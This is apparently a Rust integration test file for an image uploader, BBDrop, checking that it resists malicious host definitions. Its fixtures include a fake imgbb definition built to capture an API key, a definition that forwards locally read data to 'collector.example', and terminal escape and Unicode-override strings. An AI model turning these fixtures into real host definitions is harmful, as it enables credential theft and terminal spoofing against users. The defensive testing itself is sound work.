//! Definitions and answers of strangers: what they inherit, what is said of them before, what comes through of what they say.

use std::io::Write as _;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::process::Stdio;

use crate::support::stand_in::{Fixture, StandIn};
use crate::support::{Home, Ran};

const KEY: &str = "a-key-of-mine-1234";

fn text(path: &Path) -> &str {
    path.to_str().expect("Unicode")
}

fn good(ran: &Ran) {
    assert_eq!(ran.code, 0, "{ran:?}");
}

fn write(home: &Home, name: &str, content: &str) -> PathBuf {
    let path = home.path().join(name);
    std::fs::write(&path, content).expect("written");
    path
}

/// A host that takes everything.
fn server(rule: &str) -> StandIn {
    let fixture: Fixture =
        toml::from_str(&format!("source = 'made up'\n[[answer]]\nmethod = 'POST'\npath = '/up'\n{rule}"))
            .expect("good");
    StandIn::start(&fixture)
}

fn taker() -> StandIn {
    server("body = '<<base>>/i/<<n>>.png'\nstores = 'g'\n")
}

fn sign_in(home: &Home, id: &str) {
    let mut command = home.bbdrop(&["hosts", "sign-in", id]);
    let mut child = crate::support::spawn(command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped()));
    child.stdin.take().expect("open").write_all(format!("{KEY}\n").as_bytes()).expect("written");
    good(&Ran::of(child.wait_with_output().expect("it ends")));
}

/// Calls itself imgbb, and sends what was entered for it to `url`.
fn thief(home: &Home, url: &str) -> PathBuf {
    let definition = format!(
        "[host]\nid = 'imgbb'\nname = 'New ImgBB'\n[secrets]\nkey = {{ label = 'API key' }}\n[origins]\napi = '{url}'\n[[upload]]\n\
         method = 'POST'\nurl = '{{origin.api}}/up'\nheaders = {{ X-Key = '{{secret.key}}' }}\nmultipart = {{ f = '{{file}}' }}\n\
         extract = {{ link = 'body' }}\n"
    );
    write(home, "thief.toml", &definition)
}

fn upload(home: &Home, id: &str) -> Ran {
    let folder = home.pictures("album", 2, 20);
    let ran = home.run(&["--run-once", text(&folder), "--host", id, "--output-to-stdout"]);
    good(&home.run(&["queue", "forget", "--all"]));
    ran
}

#[test]
fn a_definition_inherits_neither_place_nor_secrets_with_its_id() {
    let home = Home::new();
    let server = taker();
    good(&home.run(&["config", "set", "secrets.store", "file"]));
    sign_in(&home, "imgbb");
    let file = thief(&home, &server.url);
    let refused = home.run(&["hosts", "import", "--yes", text(&file)]);
    assert_eq!(refused.code, 1, "{refused:?}");
    assert!(refused.stderr.contains("--replace"), "{refused:?}");
    assert!(
        refused.stdout.contains("CAUTION   takes the place of ImgBB (imgbb), which comes with BBDrop"),
        "{refused:?}"
    );
    good(&home.run(&["hosts", "import", "--yes", "--replace", text(&file)]));
    let held = upload(&home, "imgbb");
    assert!(held.code == 4 && held.stderr.contains("sign in again"), "{held:?}");
    assert!(server.stored().is_empty(), "nothing was sent");
    sign_in(&home, "imgbb");
    good(&home.run(&["hosts", "resume", "imgbb"]));
    good(&upload(&home, "imgbb"));
    assert!(!server.stored().is_empty(), "now it was entered for this place");
    // Another place is another one, whoever says so.
    good(&home.run(&["hosts", "set", "imgbb", "origins.api", &taker().url]));
    let held = upload(&home, "imgbb");
    assert!(held.code == 4 && held.stderr.contains("sign in again"), "{held:?}");
}

#[test]
fn what_an_older_version_has_kept_is_for_the_places_of_then() {
    let home = Home::new();
    let server = taker();
    std::fs::create_dir_all(home.data()).expect("made");
    std::fs::write(home.data().join("secrets.json"), format!(r#"{{"imgbb":{{"key":"{KEY}"}}}}"#)).expect("written");
    good(&home.run(&["config", "set", "secrets.store", "file"]));
    good(&home.run(&["hosts", "import", "--yes", "--replace", text(&thief(&home, &server.url))]));
    let held = upload(&home, "imgbb");
    assert!(held.code == 4 && held.stderr.contains("sign in again"), "{held:?}");
    assert!(server.stored().is_empty());
}

#[test]
fn an_uploader_called_like_a_host_does_not_become_it() {
    let home = Home::new();
    for name in ["Pixhost", "IMX", "chevereto"] {
        let uploader = format!(
            r#"{{"Version":"15.0.0","Name":"{name}","RequestMethod":"POST","RequestURL":"http://127.0.0.1:9/up","Body":"Binary"}}"#
        );
        let file = write(&home, "called.sxcu", &uploader);
        let refused = home.run(&["hosts", "import", "--yes", text(&file)]);
        assert!(refused.code == 1 && refused.stderr.contains("--replace"), "{refused:?}");
        good(&home.run(&["hosts", "import", "--yes", "--replace", text(&file)]));
    }
}

#[test]
fn no_terminal_is_no_consent() {
    let home = Home::new();
    let file = write(
        &home,
        "own.toml",
        "[host]\nid = 'own'\nname = 'Own'\n[storage]\nservice = 'ftp'\nendpoint = 'ftp://192.168.7.7:2121'\nroot = '/pub'\n\
         base_url = 'https://x.example'\n",
    );
    let asked = home.run(&["hosts", "import", text(&file)]);
    assert!(asked.code == 2 && asked.stderr.contains("--yes"), "{asked:?}");
    for words in [
        "contacts  ftp://192.168.7.7:2121 (endpoint)",
        "contacts  /pub (root)",
        "CAUTION   ftp://192.168.7.7:2121 (endpoint) is a private address",
    ] {
        assert!(asked.stdout.contains(words), "{words}: {asked:?}");
    }
    assert_eq!(home.run(&["hosts", "show", "own"]).code, 4, "nothing was added");
    let checked = home.run(&["hosts", "check", "--json", text(&file)]);
    let json: serde_json::Value = serde_json::from_str(&checked.stdout).expect("JSON");
    assert_eq!(json[0]["places"][0][1], "ftp://192.168.7.7:2121");
    assert!(json[0]["cautions"][0].as_str().is_some_and(|words| words.contains("private")), "{checked:?}");
    good(&home.run(&["hosts", "import", "--yes", text(&file)]));
}

#[test]
fn what_is_read_near_is_not_sent_far() {
    let home = Home::new();
    let near = TcpListener::bind("127.0.0.1:0").expect("a port");
    near.set_nonblocking(true).expect("set");
    let place = format!("http://{}", near.local_addr().expect("an address"));
    let definition = format!(
        "[host]\nid = 'mixed'\nname = 'Mixed'\n[origins]\nmeta = '{place}'\ncollect = 'https://collector.example'\n[[open]]\n\
         method = 'GET'\nurl = '{{origin.meta}}/latest'\nextract = {{ found = 'body' }}\n[[upload]]\nmethod = 'POST'\n\
         url = '{{origin.collect}}/up'\nmultipart = {{ stolen = '{{gallery.found}}', f = '{{file}}' }}\nextract = {{ link = 'body' }}\n"
    );
    let file = write(&home, "mixed.toml", &definition);
    let imported = home.run(&["hosts", "import", "--yes", text(&file)]);
    good(&imported);
    for words in [
        format!("CAUTION   {place} (meta) is a loopback address"),
        "it sends to https://collector.example; BBDrop refuses that".to_owned(),
    ] {
        assert!(imported.stdout.contains(&words), "{words}: {imported:?}");
    }
    let refused = upload(&home, "mixed");
    assert!(refused.code == 4 && refused.stderr.contains("send_private_values"), "{refused:?}");
    assert!(near.accept().is_err(), "nobody was asked");
    good(&home.run(&["hosts", "set", "mixed", "send_private_values", "true"]));
}

#[test]
fn what_a_host_says_comes_on_one_line_without_keys() {
    const SAID: &str = "no, token a-key-of-mine-1234 is bad \\u001B]0;x\\u0007\\u001B[2J\\nOK faked \\u202Egpj";
    let home = Home::new();
    let host = server(&format!("status = 400\nbody = \"{SAID}{}\"\n", "x".repeat(100_000)));
    let uploader = serde_json::json!({
        "Version": "15.0.0", "Name": "Talker", "RequestMethod": "POST", "RequestURL": format!("{}/up", host.url), "Body": "Binary",
        "Headers": { "Authorization": format!("Bearer {KEY}") }, "ErrorMessage": "{response}",
    });
    good(&home.run(&["hosts", "import", "--yes", text(&write(&home, "talker.sxcu", &uploader.to_string()))]));
    let folder = home.pictures("album", 2, 20);
    let ran = home.run(&["--run-once", text(&folder), "--host", "talker", "--output-to-stdout"]);
    assert_eq!(ran.code, 1, "{ran:?}");
    let shown = home.run(&["queue", "show", "1"]);
    assert!(shown.stdout.contains("no, token … is bad"), "{shown:?}");
    let reasons = home.run(&["queue", "list", "--json"]);
    for text in [&ran.stderr, &shown.stdout, &reasons.stdout] {
        assert!(!text.contains(['\u{1b}', '\u{7}', '\u{202e}']) && !text.contains(KEY), "{text}");
        assert!(!text.lines().any(|line| line.starts_with("OK faked") || line.chars().count() > 1_000), "{text}");
    }
    for file in ["bbdrop.db", "bbdrop.db-wal"] {
        let stored = std::fs::read(home.data().join(file)).unwrap_or_default();
        assert!(!stored.windows(KEY.len()).any(|window| window == KEY.as_bytes()), "{file}");
        assert!(stored.len() < 1 << 20, "{file}: {} bytes", stored.len());
    }
}

#[cfg(unix)]
#[test]
fn names_do_nothing_to_a_terminal() {
    const NAME: &str = "a \u{1b}]0;x\u{7}\u{1b}[2J b\nOK faked \u{202e}gpj";
    const SHOWN: &str = r"a \u{1b}]0;x\u{7}\u{1b}[2J b\nOK faked \u{202e}gpj";
    let home = Home::new();
    let folder = home.pictures(NAME, 2, 20);
    let added = home.run(&["queue", "add", text(&folder)]);
    good(&added);
    let resident = home.resident(&[]);
    let again = home.run(&[text(&folder)]);
    let missing = home.run(&["queue", "add", &format!("/no/such/{NAME}")]);
    let launched = home.run(&[&format!("/no/such/{NAME}")]);
    let definition = write(&home, "named.toml", &format!("[host]\nid = {NAME:?}\n"));
    let list = home.run(&["queue", "list"]);
    let show = home.run(&["queue", "show", "1"]);
    for ran in [
        &list,
        &show,
        &again,
        &missing,
        &launched,
        &home.run(&["hosts", "check", text(&definition)]),
        &home.run(&["tabs", "add", NAME]),
        &home.run(&[&format!("--{NAME}")]),
    ] {
        for text in [&ran.stdout, &ran.stderr] {
            assert!(!text.contains(['\u{1b}', '\u{7}', '\u{202e}']), "{ran:?}");
            assert!(!text.lines().any(|line| line.starts_with("OK faked")), "{ran:?}");
        }
    }
    assert!(list.stdout.contains(SHOWN) && show.stdout.contains(SHOWN), "{list:?} {show:?}");
    assert_eq!(home.list()[0]["path"].as_str(), folder.to_str(), "JSON has it as it is");
    assert_eq!(resident.quit(), 0);
}
